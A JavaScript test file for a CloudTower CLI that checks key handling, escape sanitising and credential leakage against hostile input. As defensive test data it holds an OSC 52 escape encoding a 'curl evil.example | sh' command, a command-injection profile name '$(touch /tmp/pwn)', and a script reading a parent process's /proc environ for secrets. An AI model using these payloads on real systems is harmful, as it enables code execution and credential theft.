// The CLI against a hostile world (issue 12): keys of every edge shape given positionally, server
// text full of terminal escapes and wide characters, interrupted and unread key issuance, a child
// of `exec` reading its parent's environment, secret fields of the API description in an inline
// --body, BOM/CRLF/UTF-16 body files, and the credential names in errors. Keys of chosen shapes
// come from a front (startFront) that aliases the simulator's random keys: nothing here depends
// on the shape a random key happens to take.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import stringWidth from "string-width";
import { startSimulator, ACCOUNTS } from "../sim/index.mjs";
import { secretFieldNames, loadSpec } from "../../scripts/gen-from-spec.mjs";
import { run, runOnTerminal, startFront, cleanEnv, BIN, recordOutput, assertNoSecretsPrinted, assertSecretLine } from "./helpers.mjs";

const { admin } = ACCOUNTS;
let sim;
let front;
let dir;
let vmNames = null; // names the front gives the first VMs of a get-vms answer
let holdCreate = null; // (body) => promise: holds a createApiKey request
const as = (url) => ({ CLOUDTOWER_ENDPOINT: url, CLOUDTOWER_USERNAME: admin.username, CLOUDTOWER_PASSWORD: admin.password });

before(async () => {
  sim = await startSimulator({ vms: 40, lockoutThreshold: 0 });
  front = await startFront(sim.url, {
    hold: (path, body) => (path === "/api" && body.includes("createApiKey") && holdCreate ? holdCreate(body) : undefined),
    edit: (path, text) => {
      if (!vmNames || path !== "/v2/api/get-vms") return text;
      const vms = JSON.parse(text);
      vmNames.forEach((name, i) => vms[i] && (vms[i].name = name));
      return JSON.stringify(vms);
    },
  });
  dir = mkdtempSync(join(tmpdir(), "cloudtower-hostile-"));
});
after(async () => {
  await front?.close();
  await sim?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

// 43 base64url characters each, as CloudTower keys are; the shapes argv parsing trips on.
const pad = (head) => (head + "Zq9_Xw3-Ty7uPa2LmN8bVc4KdE6fGh0JiR5sOtYxWz1").slice(0, 43);
const SHAPES = [pad("-aBc"), pad("--"), pad("-h"), pad("--name"), pad("--password"), pad("-p"), "-".repeat(43), pad("--help")];

async function aliasedKey(shape, name) {
  front.alias(shape);
  const r = await run(["key", "create", "--name", name], { env: as(front.url), stdoutMayHoldSecret: true });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(assertSecretLine(r.stdout), shape, "the CLI sees the chosen shape");
  assert.ok(sim.state.hasApiKey(front.real(shape)));
  return shape;
}

test("key delete KEY: a key starting with - or -- is revoked like any other, and never echoed", async () => {
  for (const [i, shape] of SHAPES.entries()) {
    const key = await aliasedKey(shape, `dash-${i}`);
    const r = await run(["key", "delete", key], { env: as(front.url) });
    assert.equal(r.code, 0, `${shape}: ${r.stderr}`);
    assert.match(r.stdout, /^revoked API key \S+\n$/);
    assert.match(r.stderr, /warning: the API key was given on the command line.*it is revoked now/);
    assert.ok(!r.stderr.includes(key) && !r.stdout.includes(key), `${shape} is not echoed`);
    assert.ok(!sim.state.hasApiKey(front.real(key)), `${shape} is revoked`);
  }
  // Options around it still work, in any order.
  const key = await aliasedKey(pad("-xJson"), "dash-json");
  const json = await run(["key", "delete", "--json", key], { env: as(front.url) });
  assert.equal(json.code, 0, json.stderr);
  assert.equal(JSON.parse(json.stdout).length, 1);
  assert.ok(!sim.state.hasApiKey(front.real(key)));
});

test("key rotate KEY --name NAME: an old key starting with - or -- is rotated; --name takes a value starting with -", async () => {
  for (const [i, shape] of [pad("-rot"), pad("--rot")].entries()) {
    const old = await aliasedKey(shape, `rot-old-${i}`);
    const r = await run(["key", "rotate", old, "--name", `-rot-new-${i}`], { env: as(front.url), stdoutMayHoldSecret: true });
    assert.equal(r.code, 0, r.stderr);
    assertSecretLine(r.stdout);
    assert.ok(!r.stderr.includes(old));
    assert.ok(!sim.state.hasApiKey(front.real(old)), "the old key is revoked");
    assert.ok(sim.state.apiKeys().some((k) => k.name === `-rot-new-${i}`));
  }
});

test("no usage error echoes an argument that may be a secret", async () => {
  const key = pad("--Secret");
  const cases = await Promise.all([
    run(["vms", key], { env: as(front.url) }),
    run(["login", key], { env: as(front.url) }),
    run(["vms", `${key}=x`], { env: as(front.url) }),
    run(["key", "list", pad("-Q")], { env: as(front.url) }),
    run(["call", "get-vms", "--body"], { env: as(front.url) }),
  ]);
  for (const r of cases) {
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /^error \[USAGE\] /);
    assert.ok(!r.stderr.includes("Secret") && !r.stderr.includes(pad("-Q")), r.stderr);
  }
  assert.match(cases[0].stderr, /unknown option \(not shown: it may be a secret\)/);
  assert.match(cases[4].stderr, /--body needs a value/);
  const typo = await run(["vms", "--lmit", "3"], { env: as(front.url) });
  assert.match(typo.stderr, /unknown option --lmit;/, "an option-like typo is still named");
  const keyTypo = await run(["key", "delete", "--stdn"], { env: as(front.url) });
  assert.equal(keyTypo.code, 2, "a mistyped option of key delete is not taken for a key");
  assert.match(keyTypo.stderr, /unknown option --stdn;/);
});

const OSC52 = `web-1\u001b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\u001b\\`;
const HOSTILE_NAMES = [OSC52, "数据库服务器-主-01", `${"x".repeat(46)}😀😀tail`, "csi-\u009b31mred", "bidi-\u202egnp.exe", "bell\u0007-and-\r-cr", "plain"];

test("vms on a terminal: escapes shown, not acted on; columns by display width; no character split", async () => {
  vmNames = HOSTILE_NAMES;
  try {
    const r = await runOnTerminal(["vms", "--limit", "7"], { env: as(front.url) });
    assert.equal(r.code, 0, r.screen);
    for (const raw of ["\u001b]52", "\u009b", "\u202e", "\u0007", "\uFFFD"]) assert.ok(!r.screen.includes(raw), `no raw ${JSON.stringify(raw)}`);
    assert.ok(r.screen.includes("web-1\\x1b]52;c;"), "the OSC 52 sequence is shown as text");
    assert.ok(r.screen.includes("csi-\\x9b31mred") && r.screen.includes("bidi-\\u202egnp.exe") && r.screen.includes("bell\\x07-and-\\x0d-cr"));
    const lines = r.screen.split(/\r?\n/).filter((l) => /\S/.test(l) && !l.startsWith("note:"));
    assert.equal(lines.length, 8, r.screen);
    // Every row's STATUS starts in the header's STATUS column, counted in display columns.
    const statusColumn = lines[0].indexOf("STATUS");
    for (const line of lines.slice(1)) {
      const at = line.search(/ (RUNNING|STOPPED|SUSPENDED|UNKNOWN) /) + 1;
      assert.equal(stringWidth(line.slice(0, at)), statusColumn, `aligned: ${line}`);
    }
    assert.ok(lines.some((l) => l.startsWith(`${"x".repeat(46)}…`)), "the emoji that would straddle the cut is dropped whole");
    assert.ok(lines.some((l) => l.startsWith("数据库服务器-主-01 ")));

    const json = await run(["vms", "--limit", "7", "--json"], { env: as(front.url) });
    assert.deepEqual(JSON.parse(json.stdout).map((vm) => vm.name), HOSTILE_NAMES, "JSON output stays exact");
    assert.ok(!json.stdout.includes("\u001b") && !json.stdout.includes("\u009b") && !json.stdout.includes("\u202e"), "as \\u escapes");

    const yaml = await run(["vms", "--limit", "7", "-o", "yaml"], { env: as(front.url) });
    assert.equal(yaml.code, 0, yaml.stderr);
    for (const raw of ["\u001b", "\u009b", "\u202e", "\u0007"]) assert.ok(!yaml.stdout.includes(raw), `YAML: no raw ${JSON.stringify(raw)}`);
    const { parse } = await import("yaml");
    assert.deepEqual(parse(yaml.stdout).map((vm) => vm.name), HOSTILE_NAMES, "YAML output stays exact");
  } finally {
    vmNames = null;
  }
});

test("completion never prints a profile name `auth login` could not have made (a planted config)", async () => {
  const config = mkdtempSync(join(tmpdir(), "cloudtower-planted-"));
  try {
    const profile = { endpoint: "http://127.0.0.1:9", key: "planted-key-0123456789" };
    writeFileSync(join(config, "config.json"), JSON.stringify({ current: null, profiles: { "$(touch /tmp/pwn)": profile, "x\u001b]0;pwn\u0007": profile, good: profile } }), { mode: 0o600 });
    const names = await run(["__complete", "profiles"], { env: { CLOUDTOWER_CONFIG_DIR: config } });
    assert.equal(names.stdout, "good\n");
  } finally {
    rmSync(config, { recursive: true, force: true });
  }
});

test("key create --out-file --force replaces a regular file only, never a device or a symlink", async () => {
  const link = join(dir, "key-link");
  symlinkSync(join(dir, "elsewhere"), link);
  for (const target of ["/dev/null", link]) {
    const r = await run(["key", "create", "--name", "forced", "--out-file", target, "--force"], { env: as(front.url) });
    assert.equal(r.code, 18, r.stderr);
    assert.match(r.stderr, /not a regular file/);
  }
});

test("server messages in errors are shown with their escapes visible", async () => {
  const hostile = await startFront(sim.url, {
    edit: (path, text) => text.replace('"message":"', '"message":"\\u001b]0;pwned\\u0007\\u009b2J\\u202e '),
  });
  try {
    for (const args of [["call", "get-labels"], ["vms"], ["call", "get-labels", "--json"]]) {
      const r = await run(args, { env: { CLOUDTOWER_ENDPOINT: hostile.url, CLOUDTOWER_API_KEY: "k".repeat(43) } });
      assert.ok(r.code === 8 || r.code === 11, r.stderr);
      assert.ok(!/[\u0000-\u0009\u000b-\u001f\u0080-\u009f\u202e]/.test(r.stderr), JSON.stringify(r.stderr));
      assert.ok(r.stderr.includes(args.includes("--json") ? "\\u001b]0;pwned" : "\\x1b]0;pwned\\x07\\x9b2J\\u202e"), r.stderr);
    }
  } finally {
    await hostile.close();
  }
});

/**
 * Runs the CLI; while it runs, a createApiKey request is held until the CLI has said it got
 * `signal` (sent when the request arrives): the signal lands while the mutation is in flight.
 */
async function signalDuringCreate(args, env, signal, input) {
  let cli;
  let release;
  let received = false;
  holdCreate = () => {
    cli.kill(signal);
    return new Promise((resolve) => {
      release = resolve;
      if (received) resolve();
    });
  };
  try {
    return await run(args, {
      env,
      input,
      stdoutMayHoldSecret: true,
      onSpawn: (child) => {
        cli = child;
        let seen = "";
        child.stderr.on("data", (d) => {
          seen += d;
          if (!received && seen.includes(`${signal} received`)) {
            received = true;
            release?.();
          }
        });
      },
    });
  } finally {
    holdCreate = null;
  }
}

test("a signal while createApiKey is in flight: the CLI waits for the answer, revokes the key, exits 128+N", async () => {
  for (const [name, signal, status] of [["sig-create", "SIGINT", 130], ["sig-term", "SIGTERM", 143]]) {
    const r = await signalDuringCreate(["key", "create", "--name", name], as(front.url), signal);
    assert.equal(r.code, status, r.stderr);
    assert.equal(r.stdout, "", "no key printed");
    assert.match(r.stderr, new RegExp(`error \\[INTERRUPTED\\] interrupted by ${signal}: the new API key "${name}" \\(id \\S+\\) was not delivered and has been revoked`));
    assert.ok(!sim.state.apiKeys().some((k) => k.name === name), "no key is left");
  }
});

test("a signal during key rotate: the new key is revoked, and the message says the old one is gone too", async () => {
  const old = await aliasedKey(pad("Old"), "sig-rot-old");
  const r = await signalDuringCreate(["key", "rotate", "--stdin", "--name", "sig-rot-new"], as(front.url), "SIGINT", `${old}\n`);
  assert.equal(r.code, 130, r.stderr);
  assert.equal(r.stdout, "");
  assert.match(r.stderr, /has been revoked; the old key had already been revoked by the rotation/);
  assert.ok(!sim.state.apiKeys().some((k) => k.name === "sig-rot-new"));
});

/** Runs the CLI with stdout a pipe whose reading end is already closed: every write is EPIPE. */
function runIntoClosedPipe(args, env, input = "") {
  const closer = "import os,subprocess,sys\nr,w=os.pipe()\nos.close(r)\np=subprocess.run(sys.argv[1:],stdout=w,input=sys.stdin.buffer.read())\nsys.exit(p.returncode)";
  return new Promise((resolve, reject) => {
    const child = spawn("python3", ["-c", closer, process.execPath, BIN, ...args], { env: cleanEnv(env), stdio: ["pipe", "ignore", "pipe"] });
    let stderr = "";
    child.stderr.setEncoding("utf8").on("data", (d) => (stderr += d));
    child.on("error", reject);
    child.on("close", (code) => {
      recordOutput(`cloudtower ${args.join(" ")} > closed pipe`, stderr);
      resolve({ code, stderr });
    });
    child.stdin.end(input);
  });
}

test("key create | head -c0 (EPIPE): the key is revoked and the exit status is not 0; same for key rotate", async () => {
  const r = await runIntoClosedPipe(["key", "create", "--name", "epipe"], as(sim.url));
  assert.equal(r.code, 18, r.stderr);
  assert.match(r.stderr, /error \[IO\] cannot write the key to standard output: EPIPE: the new API key "epipe" .* has been revoked/);
  assert.ok(!sim.state.apiKeys().some((k) => k.name === "epipe"));

  const created = await run(["key", "create", "--name", "epipe-old"], { env: as(sim.url), stdoutMayHoldSecret: true });
  const old = assertSecretLine(created.stdout);
  const rotated = await runIntoClosedPipe(["key", "rotate", "--stdin", "--name", "epipe-new"], as(sim.url), `${old}\n`);
  assert.equal(rotated.code, 18, rotated.stderr);
  assert.match(rotated.stderr, /has been revoked; the old key had already been revoked by the rotation/);
  assert.ok(!sim.state.apiKeys().some((k) => k.name === "epipe-new"));
});

// exec's command: records whether its parent's initial environment holds the password or a
// token, and what it read on its own standard input.
const SPY = `
const fs = require("node:fs");
const environ = fs.readFileSync("/proc/" + process.ppid + "/environ", "utf8");
fs.writeFileSync(process.argv[1] + "/parent-env", ["CLOUDTOWER_PASSWORD=", "CLOUDTOWER_TOKEN="].filter((v) => environ.includes(v)).join(","));
fs.writeFileSync(process.argv[1] + "/stdin", fs.readFileSync(0, "utf8"));
`;

test("exec: with --password-stdin no environment the command can read holds the password; from the environment, a warning", async () => {
  const spyDir = (name) => {
    const d = join(dir, name);
    mkdirSync(d);
    return d;
  };
  const quiet = spyDir("spy-stdin");
  const piped = await run(["exec", "--temporary-key", "--password-stdin", "--", process.execPath, "-e", SPY, quiet], {
    env: { CLOUDTOWER_ENDPOINT: sim.url, CLOUDTOWER_USERNAME: admin.username },
    input: `${admin.password}\nthe command's own input\n`,
  });
  assert.equal(piped.code, 0, piped.stderr);
  assert.equal(readFileSync(join(quiet, "parent-env"), "utf8"), "", "the parent's environment holds no password or token");
  assert.equal(readFileSync(join(quiet, "stdin"), "utf8"), "the command's own input\n", "the rest of stdin is the command's");
  assert.doesNotMatch(piped.stderr, /warning/);

  const loud = spyDir("spy-env");
  const fromEnv = await run(["exec", "--temporary-key", "--", process.execPath, "-e", SPY, loud], { env: as(sim.url) });
  assert.equal(fromEnv.code, 0, fromEnv.stderr);
  assert.equal(readFileSync(join(loud, "parent-env"), "utf8"), "CLOUDTOWER_PASSWORD=", "what the warning is about");
  assert.match(fromEnv.stderr, /^warning: CLOUDTOWER_PASSWORD is in this process's environment, which the command can read \(\/proc\/\d+\/environ\): prefer --password-stdin or the password prompt for exec\n$/m);

  const token = (await run(["login", "--print-token"], { env: as(sim.url), stdoutMayHoldSecret: true })).stdout.trim();
  const withToken = await run(["exec", "--temporary-key", "--", process.execPath, "-e", SPY, spyDir("spy-token")], {
    env: { CLOUDTOWER_ENDPOINT: sim.url, CLOUDTOWER_TOKEN: token },
  });
  assert.equal(withToken.code, 0, withToken.stderr);
  assert.match(withToken.stderr, /warning: CLOUDTOWER_TOKEN is in this process's environment/);
  await run(["logout"], { env: { CLOUDTOWER_ENDPOINT: sim.url, CLOUDTOWER_TOKEN: token } });

  const onTty = await runOnTerminal(["login", "--password-stdin"], { env: { CLOUDTOWER_ENDPOINT: sim.url, CLOUDTOWER_USERNAME: "admin" } });
  assert.equal(onTty.code, 2, onTty.screen);
  assert.match(onTty.screen, /--password-stdin reads a pipe or a file/);
});

test("the secret fields of the API description are derived from it and refused inline, accepted from a file or stdin", async () => {
  const names = new Set(secretFieldNames(loadSpec()));
  for (const name of ["password", "default_user_password", "chap_secret", "iscsi_chap_secret", "auth_pass_phrase", "privacy_pass_phrase",
    "root_user_password", "platform_password", "api_key", "chap_secret_contains", "token", "fileSecret"]) {
    assert.ok(names.has(name), `${name} is secret`);
  }
  for (const name of ["key", "api_key_name", "password_expired", "password_updated_at", "use_api_key", "public_keys", "name"]) {
    assert.ok(!names.has(name), `${name} is not secret`);
  }
  const value = "Hunter2-Secret-Value";
  const bodies = [
    ["create-vm-from-template", { data: [{ name: "a", cloud_init: { default_user_password: value } }] }],
    ["create-iscsi-target", { data: [{ name: "t", chap_secret: value }] }],
    ["create-snmp-transport", { data: [{ auth_pass_phrase: value }] }],
    ["get-iscsi-targets", { where: { chap_secret_contains: value } }],
  ];
  const refused = await Promise.all(bodies.map(([op, body]) => run(["call", op, "--body", JSON.stringify(body)], { env: as(sim.url) })));
  refused.forEach((r, i) => {
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /--body holds a "\w+" field: .*process list/, bodies[i][0]);
    assert.ok(!r.stderr.includes(value));
  });
  const where = await run(["vms", "--where", JSON.stringify({ OR: [{ name: "x" }, { host: { iscsi_chap_secret: value } }] })], { env: as(sim.url) });
  assert.equal(where.code, 2);
  const file = join(dir, "vm.json");
  writeFileSync(file, JSON.stringify(bodies[0][1]));
  const fromFile = await run(["call", "create-vm-from-template", "--body", `@${file}`], { env: as(sim.url) });
  assert.equal(fromFile.code, 11, "sent (the simulator does not simulate it): not refused");
  const fromStdin = await run(["call", "create-iscsi-target", "--body", "-"], { env: as(sim.url), input: JSON.stringify(bodies[1][1]) });
  assert.equal(fromStdin.code, 11, fromStdin.stderr);
  const labelKey = await run(["call", "get-labels", "--body", '{"where": {"key": "env"}}'], { env: as(sim.url) });
  assert.equal(labelKey.code, 11, "a label's key is not a secret");
});

test("--body files with a UTF-8 BOM and CRLF, or UTF-16 with a BOM (PowerShell, Notepad), are read", async () => {
  const body = '{\r\n  "where": {\r\n    "name_contains": "prod"\r\n  }\r\n}\r\n';
  const expected = JSON.parse((await run(["call", "get-clusters", "--body", body], { env: as(sim.url) })).stdout);
  assert.ok(expected.length > 0);
  const files = {
    "utf8-bom.json": Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(body, "utf8")]),
    "utf16le.json": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(body, "utf16le")]),
    "utf16be.json": Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(body, "utf16le").swap16()]),
  };
  for (const [name, bytes] of Object.entries(files)) {
    writeFileSync(join(dir, name), bytes);
    const r = await run(["call", "get-clusters", "--body", `@${join(dir, name)}`], { env: as(sim.url) });
    assert.equal(r.code, 0, `${name}: ${r.stderr}`);
    assert.deepEqual(JSON.parse(r.stdout), expected);
  }
  const piped = await run(["call", "get-clusters", "--body", "-"], { env: as(sim.url), input: files["utf8-bom.json"] });
  assert.deepEqual(JSON.parse(piped.stdout), expected);
});

test("errors name the variable the user set; a stale CLOUDTOWER_TOKEN says it shadowed the password and how to drop it", async () => {
  const shortKey = await run(["vms"], { env: { CLOUDTOWER_ENDPOINT: sim.url, CLOUDTOWER_API_KEY: "short" } });
  assert.equal(shortKey.code, 3);
  assert.match(shortKey.stderr, /^error \[INVALID_ARGUMENT\] CLOUDTOWER_API_KEY: must be at least 8 characters/);
  assert.doesNotMatch(shortKey.stderr, /options\./);
  const shortToken = await run(["vms"], { env: { CLOUDTOWER_ENDPOINT: sim.url, CLOUDTOWER_TOKEN: "short" } });
  assert.match(shortToken.stderr, /^error \[INVALID_ARGUMENT\] CLOUDTOWER_TOKEN: /);
  const badEndpoint = await run(["vms"], { env: { CLOUDTOWER_ENDPOINT: "ftp://tower", CLOUDTOWER_API_KEY: "k".repeat(43) } });
  assert.match(badEndpoint.stderr, /^error \[INVALID_ARGUMENT\] CLOUDTOWER_ENDPOINT: /);

  const stale = await run(["key", "list"], { env: { ...as(sim.url), CLOUDTOWER_TOKEN: "s".repeat(43) } });
  assert.equal(stale.code, 8);
  assert.match(stale.stderr, /^note: using CLOUDTOWER_TOKEN; CLOUDTOWER_USERNAME is set too and not used/m);
  assert.match(stale.stderr, /credential from CLOUDTOWER_TOKEN \(CLOUDTOWER_USERNAME also set but not used: unset CLOUDTOWER_TOKEN to use it\)/);
});

test("no output of any run holds a password, a token or a key, except the outputs made to print one", () => {
  assert.ok(assertNoSecretsPrinted(Object.values(ACCOUNTS).map((a) => a.password)) >= 10);
});
